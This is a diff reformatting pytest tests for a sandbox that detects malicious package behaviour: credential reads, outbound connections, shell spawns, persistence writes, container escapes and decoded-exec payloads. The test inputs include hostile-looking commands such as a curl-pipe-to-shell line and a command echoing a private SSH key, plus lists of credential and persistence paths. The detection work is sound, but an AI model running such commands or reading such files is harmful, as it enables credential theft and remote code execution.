@@ -32,8 +32,9 @@ from sandbox.models import (
 VENV = "/home/dev/project/.venv"
 
 
-def ev(kind: EventKind, syscall: str, phase: Phase = Phase.IMPORT, pid: int = 10, seq: int = 0,
-       **kw: Any) -> Event:
+def ev(
+    kind: EventKind, syscall: str, phase: Phase = Phase.IMPORT, pid: int = 10, seq: int = 0, **kw: Any
+) -> Event:
     return Event(phase=phase, seq=seq, pid=pid, time=1.0 + seq, syscall=syscall, kind=kind, **kw)
 
 
@@ -41,14 +42,21 @@ def proc(pid: int, argv: Sequence[str], phase: Phase = Phase.IMPORT, ppid: int |
     return ProcessInfo(pid=pid, ppid=ppid, phase=phase, argv=tuple(argv), exe=argv[0], start=0.0)
 
 
-def obs(events: Sequence[Event], procs: Sequence[ProcessInfo] = (), phases: Sequence[PhaseResult] = (),
-        inventory: Inventory | None = None) -> Observation:
+def obs(
+    events: Sequence[Event],
+    procs: Sequence[ProcessInfo] = (),
+    phases: Sequence[PhaseResult] = (),
+    inventory: Inventory | None = None,
+) -> Observation:
     if not procs:
-        procs = [proc(10, ["python", "-c", "import x"], e.phase) for e in events[:1]] or [proc(10, ["python"])]
+        procs = [proc(10, ["python", "-c", "import x"], e.phase) for e in events[:1]] or [
+            proc(10, ["python"])
+        ]
     if not phases:
         phases = [PhaseResult(phase=p, status=PhaseStatus.OK, duration=1.0) for p in Phase]
-    return Observation(events=tuple(events), processes=tuple(procs), phases=tuple(phases),
-                       inventory=inventory or Inventory())
+    return Observation(
+        events=tuple(events), processes=tuple(procs), phases=tuple(phases), inventory=inventory or Inventory()
+    )
 
 
 def rules_of(o: Observation) -> set[str]:
@@ -61,6 +69,7 @@ def inet(host: str, port: int) -> Address:
 
 # ---------------------------------------------------------------- PS001 / PS002
 
+
 def test_credential_read_alone_is_suspicious() -> None:
     o = obs([ev(EventKind.FILE_READ, "openat", path="/home/dev/.aws/credentials", errno="ENOENT")])
     fs = evaluate(o)
@@ -70,39 +79,61 @@ def test_credential_read_alone_is_suspicious() -> None:
     assert fs[0].evidence[0].process == ("python", "-c", "import x")
 
 
-@pytest.mark.parametrize("path", ["/home/dev/.ssh", "/root/.ssh/id_ed25519", "/home/dev/.kube/config",
-                                  "/home/dev/.docker/config.json", "/home/dev/project/.env",
-                                  "/home/dev/.git-credentials", "/home/dev/.netrc", "/home/dev/.bitcoin/wallet.dat"])
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/home/dev/.ssh",
+        "/root/.ssh/id_ed25519",
+        "/home/dev/.kube/config",
+        "/home/dev/.docker/config.json",
+        "/home/dev/project/.env",
+        "/home/dev/.git-credentials",
+        "/home/dev/.netrc",
+        "/home/dev/.bitcoin/wallet.dat",
+    ],
+)
 def test_credential_locations(path: str) -> None:
     assert "PS001" in rules_of(obs([ev(EventKind.FILE_STAT, "newfstatat", path=path)]))
 
 
-@pytest.mark.parametrize("path", ["/home/dev/project/.venv/lib/python3.11/site-packages/certifi/cacert.pem",
-                                  "/etc/ssl/certs/ca-certificates.crt", "/home/dev/.environment-notes",
-                                  "/home/dev/project/envs/.envrc.d", "/etc/os-release"])
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/home/dev/project/.venv/lib/python3.11/site-packages/certifi/cacert.pem",
+        "/etc/ssl/certs/ca-certificates.crt",
+        "/home/dev/.environment-notes",
+        "/home/dev/project/envs/.envrc.d",
+        "/etc/os-release",
+    ],
+)
 def test_not_credentials(path: str) -> None:
     assert "PS001" not in rules_of(obs([ev(EventKind.FILE_READ, "openat", path=path)]))
 
 
 def test_credential_read_plus_connect_is_malicious() -> None:
-    o = obs([
-        ev(EventKind.FILE_READ, "openat", path="/home/dev/.ssh/id_rsa", seq=1),
-        ev(EventKind.CONNECT, "connect", address=inet("192.0.2.7", 443), errno="ENETUNREACH", seq=2),
-    ])
+    o = obs(
+        [
+            ev(EventKind.FILE_READ, "openat", path="/home/dev/.ssh/id_rsa", seq=1),
+            ev(EventKind.CONNECT, "connect", address=inet("192.0.2.7", 443), errno="ENETUNREACH", seq=2),
+        ]
+    )
     fs = {f.rule_id: f for f in evaluate(o)}
     assert fs["PS001"].severity is Severity.HIGH
     assert fs["PS002"].evidence[0].destination == "192.0.2.7:443"
     assert verdict_for(list(fs.values()), [])[0] is Verdict.MALICIOUS
 
 
-@pytest.mark.parametrize("addr,fires", [
-    (inet("127.0.0.1", 8000), False),
-    (inet("::1", 80), False),
-    (Address(family="unix", path="/var/run/nscd/socket"), False),
-    (inet("10.0.0.2", 53), True),
-    (inet("2001:db8::1", 443), True),
-    (inet("198.51.100.3", 9), True),
-])
+@pytest.mark.parametrize(
+    "addr,fires",
+    [
+        (inet("127.0.0.1", 8000), False),
+        (inet("::1", 80), False),
+        (Address(family="unix", path="/var/run/nscd/socket"), False),
+        (inet("10.0.0.2", 53), True),
+        (inet("2001:db8::1", 443), True),
+        (inet("198.51.100.3", 9), True),
+    ],
+)
 def test_outbound_only_non_loopback(addr: Address, fires: bool) -> None:
     o = obs([ev(EventKind.CONNECT, "connect", address=addr)])
     assert ("PS002" in rules_of(o)) is fires
@@ -120,45 +151,74 @@ def test_metadata_address_is_credential_access() -> None:
 
 # ---------------------------------------------------------------- PS003 / PS004 / PS005
 
-@pytest.mark.parametrize("exe,fires", [("/usr/bin/curl", True), ("/bin/sh", True), ("/usr/bin/wget", True),
-                                       ("/usr/bin/git", False), ("/sbin/ldconfig", False), ("/usr/bin/gcc", False)])
+
+@pytest.mark.parametrize(
+    "exe,fires",
+    [
+        ("/usr/bin/curl", True),
+        ("/bin/sh", True),
+        ("/usr/bin/wget", True),
+        ("/usr/bin/git", False),
+        ("/sbin/ldconfig", False),
+        ("/usr/bin/gcc", False),
+    ],
+)
 def test_spawn(exe: str, fires: bool) -> None:
     o = obs([ev(EventKind.EXEC, "execve", path=exe, argv=(exe.rsplit("/", 1)[1], "-x"))])
     assert ("PS003" in rules_of(o)) is fires
 
 
 def test_path_search_failures_collapse_to_the_successful_exec() -> None:
-    o = obs([
-        ev(EventKind.EXEC, "execve", path="/usr/local/bin/curl", argv=("curl",), errno="ENOENT", seq=1),
-        ev(EventKind.EXEC, "execve", path="/usr/bin/curl", argv=("curl",), seq=2),
-    ])
+    o = obs(
+        [
+            ev(EventKind.EXEC, "execve", path="/usr/local/bin/curl", argv=("curl",), errno="ENOENT", seq=1),
+            ev(EventKind.EXEC, "execve", path="/usr/bin/curl", argv=("curl",), seq=2),
+        ]
+    )
     f = next(f for f in evaluate(o) if f.rule_id == "PS003")
     assert [e.path for e in f.evidence] == ["/usr/bin/curl"]
 
 
 def test_exec_of_written_file() -> None:
-    o = obs([
-        ev(EventKind.FILE_WRITE, "openat", path="/tmp/.x/agent.tmp", seq=1),
-        ev(EventKind.FILE_RENAME, "rename", path="/tmp/.x/agent.tmp", path2="/tmp/.x/agent", seq=2),
-        ev(EventKind.EXEC, "execve", path="/tmp/.x/agent", argv=("agent",), seq=3),
-    ])
+    o = obs(
+        [
+            ev(EventKind.FILE_WRITE, "openat", path="/tmp/.x/agent.tmp", seq=1),
+            ev(EventKind.FILE_RENAME, "rename", path="/tmp/.x/agent.tmp", path2="/tmp/.x/agent", seq=2),
+            ev(EventKind.EXEC, "execve", path="/tmp/.x/agent", argv=("agent",), seq=3),
+        ]
+    )
     assert "PS004" in rules_of(o)
     benign = obs([ev(EventKind.EXEC, "execve", path="/tmp/.x/agent", argv=("agent",))])
     assert "PS004" not in rules_of(benign)
 
 
 def test_exec_of_file_written_by_harness_is_not_flagged() -> None:
-    o = obs([
-        ev(EventKind.FILE_WRITE, "openat", path=f"{VENV}/bin/tool", origin=Origin.HARNESS, phase=Phase.INSTALL),
-        ev(EventKind.EXEC, "execve", path=f"{VENV}/bin/tool", argv=("tool",), seq=3),
-    ])
+    o = obs(
+        [
+            ev(
+                EventKind.FILE_WRITE,
+                "openat",
+                path=f"{VENV}/bin/tool",
+                origin=Origin.HARNESS,
+                phase=Phase.INSTALL,
+            ),
+            ev(EventKind.EXEC, "execve", path=f"{VENV}/bin/tool", argv=("tool",), seq=3),
+        ]
+    )
     assert "PS004" not in rules_of(o)
 
 
-@pytest.mark.parametrize("path", ["/home/dev/.bashrc", "/home/dev/.config/systemd/user/sysmon.service",
-                                  "/home/dev/.config/autostart/x.desktop", "/etc/cron.d/job",
-                                  "/home/dev/.ssh/authorized_keys",
-                                  f"{VENV}/lib/python3.11/site-packages/sitecustomize.py"])
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/home/dev/.bashrc",
+        "/home/dev/.config/systemd/user/sysmon.service",
+        "/home/dev/.config/autostart/x.desktop",
+        "/etc/cron.d/job",
+        "/home/dev/.ssh/authorized_keys",
+        f"{VENV}/lib/python3.11/site-packages/sitecustomize.py",
+    ],
+)
 def test_persistence_writes(path: str) -> None:
     o = obs([ev(EventKind.FILE_WRITE, "openat", path=path, errno="EACCES")])
     assert "PS005" in rules_of(o)
@@ -176,9 +236,17 @@ def test_bashrc_read_is_not_persistence() -> None:
 
 # ---------------------------------------------------------------- PS006..PS009
 
+
 def test_lingering() -> None:
-    phases = [PhaseResult(phase=Phase.IMPORT, status=PhaseStatus.OK, duration=1, window=5.0,
-                          lingering=(Lingering(pid=55, ppid=1, argv=("python", "-c", "x"), threads=2, status="sleeping"),))]
+    phases = [
+        PhaseResult(
+            phase=Phase.IMPORT,
+            status=PhaseStatus.OK,
+            duration=1,
+            window=5.0,
+            lingering=(Lingering(pid=55, ppid=1, argv=("python", "-c", "x"), threads=2, status="sleeping"),),
+        )
+    ]
     fs = evaluate(obs([], phases=phases))
     assert [f.rule_id for f in fs] == ["PS006"] and fs[0].evidence[0].pid == 55
 
@@ -199,19 +267,23 @@ def test_escape_attempts() -> None:
     sock = Address(family="unix", path="/var/run/docker.sock")
     assert "PS008" in rules_of(obs([ev(EventKind.CONNECT, "connect", address=sock, errno="ENOENT")]))
     assert "PS008" in rules_of(obs([ev(EventKind.PRIVILEGED, "mount", errno="EPERM")]))
-    assert "PS008" in rules_of(obs([ev(EventKind.FILE_WRITE, "openat", path="/proc/sysrq-trigger", errno="EACCES")]))
+    assert "PS008" in rules_of(
+        obs([ev(EventKind.FILE_WRITE, "openat", path="/proc/sysrq-trigger", errno="EACCES")])
+    )
     assert "PS008" not in rules_of(obs([ev(EventKind.PRIVILEGED, "personality")]))
 
 
 def test_pth_inventory_is_info_only() -> None:
-    inv = Inventory(pth_files=(PthFile(path=f"{VENV}/x.pth", sha256="0" * 64, size=10, head="import os",
-                                       executes=True),))
+    inv = Inventory(
+        pth_files=(PthFile(path=f"{VENV}/x.pth", sha256="0" * 64, size=10, head="import os", executes=True),)
+    )
     fs = evaluate(obs([], inventory=inv))
     assert [(f.rule_id, f.severity) for f in fs] == [("PS009", Severity.INFO)]
     assert verdict_for(fs, [])[0] is Verdict.CLEAN
 
 
 # ---------------------------------------------------------------- classification
+
 
 def test_harness_exempt_only_by_exact_argv_and_not_descendants() -> None:
     pip = ("/v/bin/python", "-m", "pip", "install", "x.whl")
@@ -234,8 +306,10 @@ def test_harness_exempt_only_by_exact_argv_and_not_descendants() -> None:
 
 
 def test_runtime_noise_classified_not_dropped() -> None:
-    events = [ev(EventKind.FILE_READ, "openat", seq=1, path="/usr/lib/python3.11/os.py"),
-              ev(EventKind.FILE_READ, "openat", seq=2, path="/home/dev/.ssh/id_rsa")]
+    events = [
+        ev(EventKind.FILE_READ, "openat", seq=1, path="/usr/lib/python3.11/os.py"),
+        ev(EventKind.FILE_READ, "openat", seq=2, path="/home/dev/.ssh/id_rsa"),
+    ]
     out, _ = classify(events, [proc(10, ["python"])], [], VENV)
     assert [e.origin for e in out] == [Origin.RUNTIME, Origin.CANDIDATE]
     assert is_runtime_path(f"{VENV}/lib/python3.11/site-packages/six.py", VENV)
@@ -244,9 +318,12 @@ def test_runtime_noise_classified_not_dropped() -> None:
 
 # ---------------------------------------------------------------- verdict / exit codes
 
+
 def test_incomplete_when_a_phase_failed_and_nothing_found() -> None:
-    phases = [PhaseResult(phase=Phase.INSTALL, status=PhaseStatus.OK, duration=1),
-              PhaseResult(phase=Phase.IMPORT, status=PhaseStatus.TIMEOUT, duration=1, trace_complete=False)]
+    phases = [
+        PhaseResult(phase=Phase.INSTALL, status=PhaseStatus.OK, duration=1),
+        PhaseResult(phase=Phase.IMPORT, status=PhaseStatus.TIMEOUT, duration=1, trace_complete=False),
+    ]
     o = obs([], phases=phases)
     reasons = incomplete_reasons(o)
     assert reasons == ["import phase timeout", "import trace incomplete"]
@@ -258,13 +335,16 @@ def test_findings_beat_incomplete() -> None:
     assert verdict_for(evaluate(o), ["import phase timeout"])[0] is Verdict.MALICIOUS
 
 
-@pytest.mark.parametrize("verdict,fail_on,code", [
-    (Verdict.CLEAN, Verdict.SUSPICIOUS, ExitCode.CLEAN),
-    (Verdict.SUSPICIOUS, Verdict.SUSPICIOUS, ExitCode.FINDINGS),
-    (Verdict.SUSPICIOUS, Verdict.MALICIOUS, ExitCode.CLEAN),
-    (Verdict.MALICIOUS, Verdict.MALICIOUS, ExitCode.FINDINGS),
-    (Verdict.INCOMPLETE, Verdict.MALICIOUS, ExitCode.SANDBOX),
-])
+@pytest.mark.parametrize(
+    "verdict,fail_on,code",
+    [
+        (Verdict.CLEAN, Verdict.SUSPICIOUS, ExitCode.CLEAN),
+        (Verdict.SUSPICIOUS, Verdict.SUSPICIOUS, ExitCode.FINDINGS),
+        (Verdict.SUSPICIOUS, Verdict.MALICIOUS, ExitCode.CLEAN),
+        (Verdict.MALICIOUS, Verdict.MALICIOUS, ExitCode.FINDINGS),
+        (Verdict.INCOMPLETE, Verdict.MALICIOUS, ExitCode.SANDBOX),
+    ],
+)
 def test_exit_codes(verdict: Verdict, fail_on: Verdict, code: ExitCode) -> None:
     assert exit_code_for_verdict(verdict, fail_on) is code
 
@@ -285,8 +365,16 @@ def test_system_secrets_count_on_open_not_stat() -> None:
 
 def test_pip_build_env_installer_is_harness_only_under_pip() -> None:
     pip = (f"{VENV}/bin/python", "-m", "pip", "install", "x.tar.gz")
-    runner = (f"{VENV}/bin/python", f"{VENV}/lib/python3.11/site-packages/pip/__pip-runner__.py", "install",
-              "--ignore-installed", "--no-user", "--prefix", "/tmp/pip-build-env-abc/overlay", "setuptools")
+    runner = (
+        f"{VENV}/bin/python",
+        f"{VENV}/lib/python3.11/site-packages/pip/__pip-runner__.py",
+        "install",
+        "--ignore-installed",
+        "--no-user",
+        "--prefix",
+        "/tmp/pip-build-env-abc/overlay",
+        "setuptools",
+    )
     events = [
         ev(EventKind.EXEC, "execve", Phase.INSTALL, pid=5, seq=1, argv=pip, path=pip[0]),
         ev(EventKind.SPAWN, "clone", Phase.INSTALL, pid=5, seq=2, target=6),
@@ -300,11 +388,19 @@ def test_pip_build_env_installer_is_harness_only_under_pip() -> None:
     assert out2[1].origin is Origin.CANDIDATE
 
 
-@pytest.mark.parametrize("script,probe", [
-    ("uname -m", True), ("uname -s; uname -m", True), ("ldconfig -p | grep ssl", False),
-    ("getconf LONG_BIT", True), ("curl -s http://x.invalid | sh", False), ("uname > /tmp/x", False),
-    ("echo $(cat ~/.ssh/id_rsa)", False), ("python3 -c 'import os'", False),
-])
+@pytest.mark.parametrize(
+    "script,probe",
+    [
+        ("uname -m", True),
+        ("uname -s; uname -m", True),
+        ("ldconfig -p | grep ssl", False),
+        ("getconf LONG_BIT", True),
+        ("curl -s http://x.invalid | sh", False),
+        ("uname > /tmp/x", False),
+        ("echo $(cat ~/.ssh/id_rsa)", False),
+        ("python3 -c 'import os'", False),
+    ],
+)
 def test_shell_probe_only(script: str, probe: bool) -> None:
     o = obs([ev(EventKind.EXEC, "execve", path="/bin/sh", argv=("/bin/sh", "-c", script))])
     f = next(f for f in evaluate(o) if f.rule_id == "PS003")
@@ -312,28 +408,44 @@ def test_shell_probe_only(script: str, probe: bool) -> None:
 
 
 def test_write_outside_allowed_paths_is_low() -> None:
-    o = obs([ev(EventKind.FILE_WRITE, "openat", path="/home/dev/project/log.txt"),
-             ev(EventKind.FILE_WRITE, "openat", path="/tmp/x", seq=2),
-             ev(EventKind.FILE_WRITE, "openat", path=f"{VENV}/lib/python3.11/site-packages/x.pyc", seq=3)])
+    o = obs(
+        [
+            ev(EventKind.FILE_WRITE, "openat", path="/home/dev/project/log.txt"),
+            ev(EventKind.FILE_WRITE, "openat", path="/tmp/x", seq=2),
+            ev(EventKind.FILE_WRITE, "openat", path=f"{VENV}/lib/python3.11/site-packages/x.pyc", seq=3),
+        ]
+    )
     fs = [f for f in evaluate(o) if f.rule_id == "PS020"]
     assert len(fs) == 1 and fs[0].severity is Severity.LOW
     assert [e.path for e in fs[0].evidence] == ["/home/dev/project/log.txt"]
 
 
-@pytest.mark.parametrize("argv,fires", [
-    (("python3", "-c", "import base64; exec(base64.b64decode('cHJpbnQoMSk='))"), True),
-    (("python3", "-c", "exec(zlib.decompress(bytes.fromhex('78')))"), True),
-    (("python3", "-c", "print('hello')"), False),
-    (("python3", "-m", "pip", "--version"), False),
-])
+@pytest.mark.parametrize(
+    "argv,fires",
+    [
+        (("python3", "-c", "import base64; exec(base64.b64decode('cHJpbnQoMSk='))"), True),
+        (("python3", "-c", "exec(zlib.decompress(bytes.fromhex('78')))"), True),
+        (("python3", "-c", "print('hello')"), False),
+        (("python3", "-m", "pip", "--version"), False),
+    ],
+)
 def test_decoded_exec(argv: tuple[str, ...], fires: bool) -> None:
     o = obs([ev(EventKind.EXEC, "execve", path="/usr/bin/python3", argv=argv)])
     assert ("PS021" in rules_of(o)) is fires
 
 
 def test_decoded_pth_hook() -> None:
-    inv = Inventory(pth_files=(PthFile(path=f"{VENV}/x.pth", sha256="1" * 64, size=10, executes=True,
-                                       head="import base64; exec(base64.b64decode('aW1wb3J0IG9z'))"),))
+    inv = Inventory(
+        pth_files=(
+            PthFile(
+                path=f"{VENV}/x.pth",
+                sha256="1" * 64,
+                size=10,
+                executes=True,
+                head="import base64; exec(base64.b64decode('aW1wb3J0IG9z'))",
+            ),
+        )
+    )
     assert "PS021" in rules_of(obs([], inventory=inv))
 
 
@@ -348,9 +460,20 @@ def test_process_explosion() -> None:
 
 def test_cpu_burn_only_for_busy_survivors() -> None:
     def phases(cpu: float) -> list[PhaseResult]:
-        return [PhaseResult(phase=Phase.IMPORT, status=PhaseStatus.OK, duration=1, window=5.0,
-                            lingering=(Lingering(pid=5, ppid=1, argv=("python",), threads=3, status="running",
-                                                 cpu=cpu, active=True),))]
+        return [
+            PhaseResult(
+                phase=Phase.IMPORT,
+                status=PhaseStatus.OK,
+                duration=1,
+                window=5.0,
+                lingering=(
+                    Lingering(
+                        pid=5, ppid=1, argv=("python",), threads=3, status="running", cpu=cpu, active=True
+                    ),
+                ),
+            )
+        ]
+
     assert "PS023" in rules_of(obs([], phases=phases(4.9)))
     assert "PS023" not in rules_of(obs([], phases=phases(0.1)))
 
